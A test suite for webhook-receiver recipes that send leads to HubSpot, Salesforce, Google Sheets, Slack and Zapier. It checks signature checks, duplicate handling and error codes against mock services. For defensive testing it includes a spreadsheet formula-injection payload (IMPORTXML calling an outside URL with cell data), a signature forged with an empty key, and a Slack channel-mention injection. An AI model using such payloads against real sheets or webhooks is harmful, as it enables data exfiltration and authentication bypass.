/** Runs the code in docs/recipes/ against services that behave as their public documentation says. */
import assert from 'node:assert/strict';
import {createHmac} from 'node:crypto';
import {readdirSync, readFileSync} from 'node:fs';
import {createRequire} from 'node:module';
import {suite, test} from 'node:test';
import {runInNewContext} from 'node:vm';
import {openFor, openForSuite} from '../support/opened.ts';
import {until} from '../support/until.ts';
import {headersOf, newEvent, pending, secret, type SentEvent} from './event.ts';
import {codeOf, refusalToStart, startReceiver, type Receiver} from './recipe.ts';
import {
  hubSpotToken,
  organization,
  sheetSecret,
  startHubSpot,
  startSalesforce,
  startSheet,
  startSlack,
  type Service,
} from './services.ts';

const answered = {type: 'lead.answered'};

async function assertTaken(receiver: Receiver, ...events: SentEvent[]) {
  for (const event of events) assert.equal((await receiver.send(event)).status, 204);
}

/**
 * What every recipe with a server does.
 * @param heard by what the service answers: what the webhook hears
 */
function testReceiver(receiver: Receiver, service: Service<unknown>, heard: Record<number, number>) {
  const asked = async (work: () => Promise<void>) => {
    const before = service.requests();
    await work();
    return service.requests() - before;
  };
  test('an event without the right signature is refused with 401', async () => {
    const event = newEvent();
    const headers = headersOf(event);
    const count = await asked(async () => {
      const changed = {...event, body: event.body.replace('Jane', 'John')};
      for (const [sent, withHeaders] of [
        [changed, headers],
        [event, {...headers, 'webhook-id': 'evt_created_other'}],
        [event, {...headers, 'webhook-signature': 'v1,AAAA'}],
        [event, {}],
        [event, headersOf(event, new Date(Date.now() - 600_000))],
      ] as const) {
        assert.equal((await receiver.send(sent, withHeaders)).status, 401);
      }
    });
    assert.equal(count, 0);
  });
  test('a made-up event, a repeated lead and an unknown type are taken, and nothing is done', async () => {
    const count = await asked(() =>
      assertTaken(
        receiver,
        newEvent({}, {test: true}),
        newEvent({duplicate_of: '01934b2c-0000-7000-8000-0099ef41762d', answer: null}),
        {...newEvent(), body: JSON.stringify({type: 'lead.erased', data: {id: '1'}})},
      ),
    );
    assert.equal(count, 0);
  });
  test('an event that the service does not take is answered with an error, and is taken later', async () => {
    const event = newEvent();
    service.failWith(500);
    assert.ok((await receiver.send(event)).status >= 500);
    service.failWith(0);
    const count = await asked(() => assertTaken(receiver, event));
    assert.ok(count > 0);
    await until(() => receiver.printed().includes(' answered '));
    assert.doesNotMatch(receiver.printed(), /Jane|Doe|jane@example|555/);
  });
  for (const [answer, status] of Object.entries(heard))
    test(`the webhook hears ${status} while the service answers ${answer}`, async () => {
      const wait = answer === '429' ? '7' : null;
      service.failWith(Number(answer), wait === null ? {} : {'retry-after': wait});
      const reply = await receiver.send(newEvent());
      service.failWith(0);
      assert.deepEqual([reply.status, reply.headers.get('retry-after')], [status, wait]);
    });
}

suite('the settings of a recipe', () => {
  const url = 'http://127.0.0.1:9';
  const complete: Record<string, Record<string, string>> = {
    hubspot: {HUBSPOT_TOKEN: hubSpotToken},
    salesforce: {SALESFORCE_OID: organization},
    sheets: {SHEETS_URL: url, SHEETS_SECRET: sheetSecret},
    slack: {SLACK_URL: url},
  };
  for (const [recipe, settings] of Object.entries(complete)) {
    test(`are needed by the receiver for ${recipe}, with a secret of 24 bytes`, () => {
      const short = `whsec_${Buffer.alloc(23).toString('base64')}`;
      for (const wrong of ['', 'whsec_', short, undefined]) {
        const all = {...settings, ...(wrong !== undefined && {WEBHOOK_SECRET: wrong})};
        assert.match(refusalToStart(recipe, all), /Set .*WEBHOOK_SECRET/);
      }
      for (const name of Object.keys(settings)) {
        const without = {...settings, WEBHOOK_SECRET: secret, [name]: ''};
        assert.match(refusalToStart(recipe, without), new RegExp(`Set .*${name}`));
      }
    });
  }
});

test('the sample events are those that the published schema allows', () => {
  const {id} = newEvent().data;
  const refused = {...pending, status: 'refused'};
  newEvent({answer: pending, partner: null, attribution: {}});
  newEvent({answer: refused, supersedes: id}, answered);
  newEvent({answer: null, duplicate_of: id}, {test: true});
  assert.throws(() => newEvent({partner: 5 as unknown as string}), /data\/partner must be string/);
});

test('each piece of code in the recipes has 40 lines at most', () => {
  const folder = new URL('../../docs/recipes/', import.meta.url);
  for (const file of readdirSync(folder)) {
    for (const [, code = ''] of readFileSync(new URL(file, folder), 'utf8').matchAll(
      /^```js.*\n([^]*?)^```$/gm,
    )) {
      assert.ok(code.trimEnd().split('\n').length <= 40, file);
    }
  }
});

suite('HubSpot', () => {
  const hubSpot = openForSuite(startHubSpot);
  const receiver = openForSuite(() =>
    startReceiver('hubspot', {WEBHOOK_SECRET: secret, HUBSPOT_TOKEN: hubSpotToken, HUBSPOT_URL: hubSpot.url}),
  );
  // A contact that is taken only in part is not taken: 207.
  testReceiver(receiver, hubSpot, {207: 502, 400: 422, 429: 429, 503: 502});

  test('a lead is a contact with all fields of the recipe', async () => {
    const event = newEvent({lead: {email: 'fields@example.com'}});
    await assertTaken(receiver, event);
    assert.deepEqual(hubSpot.records.get('fields@example.com'), {
      email: 'fields@example.com',
      firstname: 'Jane',
      lastname: 'Doe',
      phone: '+12025550142',
      prequal_reference: event.data.reference,
      prequal_lead_id: event.data.id,
      prequal_partner: 'acme',
      prequal_total: 862_000,
      prequal_campaign: 'spring',
    });
  });
  test('an event that comes twice, and an answer, update the same contact', async () => {
    const lead = {email: 'twice@example.com'};
    const created = newEvent({lead, answer: pending, attribution: {}, partner: null});
    const later = newEvent({...created.data, answer: newEvent().data.answer}, answered);
    const before = hubSpot.records.size;
    await assertTaken(receiver, created, created);
    assert.equal(hubSpot.records.size, before + 1);
    assert.equal(hubSpot.records.get('twice@example.com')?.['prequal_total'], undefined);
    // The first event may also come after the answer.
    await assertTaken(receiver, later, created);
    assert.equal(hubSpot.records.get('twice@example.com')?.['prequal_total'], 862_000);
  });
  test('a wrong token is an error that the operator can read', async (t) => {
    const settings = {WEBHOOK_SECRET: secret, HUBSPOT_TOKEN: 'wrong', HUBSPOT_URL: hubSpot.url};
    const other = await openFor(t, startReceiver('hubspot', settings));
    const reply = await other.send(newEvent());
    assert.equal(`${reply.status} ${await reply.text()}`, '502 HubSpot answered 401 INVALID_AUTHENTICATION');
  });
});

suite('Salesforce', () => {
  const salesforce = openForSuite(startSalesforce);
  const receiver = openForSuite(() =>
    startReceiver('salesforce', {
      WEBHOOK_SECRET: secret,
      SALESFORCE_OID: organization,
      SALESFORCE_URL: salesforce.url,
    }),
  );
  testReceiver(receiver, salesforce, {400: 422, 429: 429, 503: 502});

  test('a lead is a lead in Salesforce with all fields of the recipe', async () => {
    const event = newEvent();
    await assertTaken(receiver, event);
    assert.deepEqual(salesforce.records.at(-1), {
      oid: organization,
      first_name: 'Jane',
      last_name: 'Doe',
      email: 'jane@example.com',
      phone: '(202) 555-0142',
      company: 'Jane Doe',
      lead_source: 'Web',
      description: `Reference ${event.data.reference}, partner acme, total 862000`,
    });
  });
  test('names that are as long as a lead may have them fit', async () => {
    const before = salesforce.records.length;
    await assertTaken(receiver, newEvent({lead: {first_name: 'J'.repeat(80), last_name: 'D'.repeat(80)}}));
    assert.equal(salesforce.records.length, before + 1);
  });
  test('an event that comes twice is one lead, also after a restart', async () => {
    const event = newEvent();
    const before = salesforce.records.length;
    await assertTaken(receiver, event, event);
    await receiver.restart();
    await assertTaken(receiver, event);
    assert.equal(salesforce.records.length, before + 1);
  });
  test('a lead without an answer yet is sent at once, and its answer is no second lead', async () => {
    const created = newEvent({answer: pending, partner: null});
    const before = salesforce.records.length;
    await assertTaken(receiver, created, newEvent({...created.data}, answered));
    assert.equal(salesforce.records.length, before + 1);
    assert.match(salesforce.records.at(-1)?.['description'] ?? '', /partner none, total none yet$/);
  });
});

suite('Google Sheets', () => {
  const sheet = openForSuite(() => startSheet(codeOf('sheets', 'apps-script')));
  const settings = () => ({WEBHOOK_SECRET: secret, SHEETS_URL: sheet.url, SHEETS_SECRET: sheetSecret});
  const receiver = openForSuite(() => startReceiver('sheets', settings()));
  testReceiver(receiver, sheet, {});
  const rowsOf = ({data: {id}}: SentEvent) => sheet.records.filter(([first]) => first === id);

  test('a lead is a row with all columns of the recipe', async () => {
    const event = newEvent();
    await assertTaken(receiver, event);
    assert.deepEqual(rowsOf(event), [
      [
        ...[event.data.id, '2026-11-20T17:45:12.000Z', event.data.reference, 'acme'],
        ...['Jane', 'Doe', 'jane@example.com', '(202) 555-0142', 'done', 'google', 'spring', 862_000],
      ],
    ]);
  });
  test('a lead has one row, in whatever order its events come, and however often', async () => {
    for (const order of ['before', 'after']) {
      const created = newEvent({answer: pending});
      const later = newEvent({...created.data, answer: newEvent().data.answer}, answered);
      const events = order === 'before' ? [created, created, later, later] : [later, created, later, created];
      await assertTaken(receiver, ...events);
      assert.equal(rowsOf(created).length, 1);
      assert.deepEqual(rowsOf(created)[0]?.slice(8), ['done', 'google', 'spring', 862_000]);
    }
  });
  test('no value of a visitor becomes a formula or a number', async () => {
    const evil = '=IMPORTXML("https://example.org/"&A1, "//a")';
    const lead = {first_name: evil, last_name: "'=1+1", email: '+1@example.com', phone: '+12025550142'};
    const event = newEvent({lead, attribution: {utm_source: '=1', utm_campaign: '007'}});
    await assertTaken(receiver, event);
    assert.deepEqual(rowsOf(event)[0]?.slice(4, 11), [
      ...[evil, "'=1+1", '+1@example.com', '+12025550142', 'done', '=1', '007'],
    ]);
  });
  test('a script that fails, or another secret, is an error, so that the event comes again', async (t) => {
    const event = newEvent();
    const broken = {...event, body: event.body.replace('"attribution"', '"attributions"')};
    assert.equal((await receiver.send(broken, headersOf(broken))).status, 502);
    await assertTaken(receiver, event);
    const other = await openFor(t, startReceiver('sheets', {...settings(), SHEETS_SECRET: 'wrong'}));
    assert.equal((await other.send(newEvent())).status, 502);
  });
});

suite('Slack', () => {
  const slack = openForSuite(startSlack);
  const receiver = openForSuite(() => startReceiver('slack', {WEBHOOK_SECRET: secret, SLACK_URL: slack.url}));
  // The channel is archived: 410.
  testReceiver(receiver, slack, {410: 410, 429: 429});

  const messageOf = async (...parts: Parameters<typeof newEvent>) => {
    const event = newEvent(...parts);
    await assertTaken(receiver, event);
    return slack.records.at(-1)?.replace(event.data.reference, 'K7QM-2XHD');
  };
  test('the message is the one that the recipe shows', async () => {
    const documentation = readFileSync(new URL('../../docs/recipes/slack.md', import.meta.url), 'utf8');
    const message = await messageOf();
    assert.equal(message, 'New lead: K7QM-2XHD from acme, $862,000, spring');
    assert.ok(documentation.includes(message));
  });
  test('the message says what happened', async () => {
    const attribution = {};
    const refused = {...pending, status: 'refused'};
    assert.equal(
      await messageOf({answer: pending, partner: null, attribution}),
      'New lead: K7QM-2XHD from a caller, pending',
    );
    assert.equal(await messageOf({attribution}, answered), 'Answered: K7QM-2XHD from acme, $862,000');
    assert.equal(
      await messageOf({attribution, answer: refused}, answered),
      'Answered: K7QM-2XHD from acme, refused',
    );
    assert.equal(
      await messageOf({attribution, supersedes: newEvent().data.id}),
      'Corrected lead: K7QM-2XHD from acme, $862,000',
    );
  });
  test('a campaign calls nobody in the channel', async () => {
    const message = await messageOf({attribution: {utm_campaign: '<!channel> & <@U1>'}});
    assert.match(message ?? '', /, &lt;!channel&gt; &amp; &lt;@U1&gt;$/);
  });
  test('an event that comes twice is one message', async () => {
    const event = newEvent();
    const before = slack.records.length;
    await assertTaken(receiver, event, event);
    assert.equal(slack.records.length, before + 1);
  });
});

suite('Zapier', () => {
  /** Zapier runs the code as the body of an asynchronous function. */
  async function run(event: SentEvent, changes: Record<string, string> = {}) {
    const headers = headersOf(event);
    const inputData = {
      id: event.id,
      timestamp: headers['webhook-timestamp'],
      signature: headers['webhook-signature'],
      body: event.body,
      secret,
      ...changes,
    };
    const globals = {inputData, require: createRequire(import.meta.url), Buffer};
    const code = `(async () => {${codeOf('zapier', 'zapier')}})()`;
    return {...((await runInNewContext(code, globals)) as Record<string, unknown>)};
  }

  test('a lead has all fields of the recipe', async () => {
    const event = newEvent({supersedes: newEvent().data.id});
    assert.deepEqual(await run(event), {
      is_lead: true,
      event_id: event.id,
      lead_id: event.data.id,
      reference: event.data.reference,
      created_at: '2026-11-20T17:45:12.000Z',
      partner: 'acme',
      first_name: 'Jane',
      last_name: 'Doe',
      email: 'jane@example.com',
      phone: '+12025550142',
      status: 'done',
      total: 862_000,
      campaign: 'spring',
      replaces: event.data.supersedes,
    });
  });
  test('a lead without an answer yet has the status pending, and no total', async () => {
    const fields = await run(newEvent({answer: pending, partner: null, attribution: {}}));
    assert.partialDeepStrictEqual(fields, {status: 'pending', total: '', partner: '', campaign: ''});
  });
  test('one of two signatures is enough, while the secret is changed', async () => {
    const event = newEvent();
    const {'webhook-signature': right = ''} = headersOf(event);
    for (const signature of [`v1,AAAA ${right}`, `${right} v1,AAAA`])
      assert.equal((await run(event, {signature}))['is_lead'], true);
  });
  test('a missing secret ends the run, also if the signature was made with an empty key', async () => {
    const event = newEvent();
    const timestamp = headersOf(event)['webhook-timestamp'];
    const forged = createHmac('sha256', '').update(`${event.id}.${timestamp}.${event.body}`);
    const signature = `v1,${forged.digest('base64')}`;
    for (const none of ['', 'whsec_'])
      await assert.rejects(run(event, {secret: none, signature}), /The secret is missing/);
  });
  test('a wrong signature ends the run', async () => {
    const event = newEvent();
    const wrong = [
      {body: event.body.replace('Jane', 'John')},
      {id: 'evt_other'},
      {signature: 'v1,AAAA'},
      {signature: ''},
    ];
    for (const changes of wrong) await assert.rejects(run(event, changes), /The signature is wrong/);
  });
  test('the filter stops a made-up event, a repeated lead and an unknown type', async () => {
    const unknown = {...newEvent(), body: JSON.stringify({type: 'lead.erased', data: {id: '1'}})};
    for (const event of [newEvent({}, {test: true}), newEvent({duplicate_of: newEvent().data.id}), unknown])
      assert.deepEqual(await run(event), {is_lead: false});
  });
});
